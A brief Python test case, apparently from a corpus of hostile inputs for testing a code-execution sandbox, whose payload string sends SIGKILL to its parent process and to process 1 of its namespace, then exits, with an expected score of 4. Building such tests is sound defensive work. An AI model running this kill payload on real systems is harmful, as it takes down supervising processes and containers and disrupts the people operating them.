"""SIGKILL to its parent and to process 1 of its own namespace."""

from hostile.corpus import Case, Expect, strike

EXPECT = Expect(score=4)

PAYLOAD = """
import os
import signal
for pid in {os.getppid(), 1} - {0}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(error.strerror)
os._exit(0)
"""


def submit(case: Case) -> None:
    strike(case, PAYLOAD)
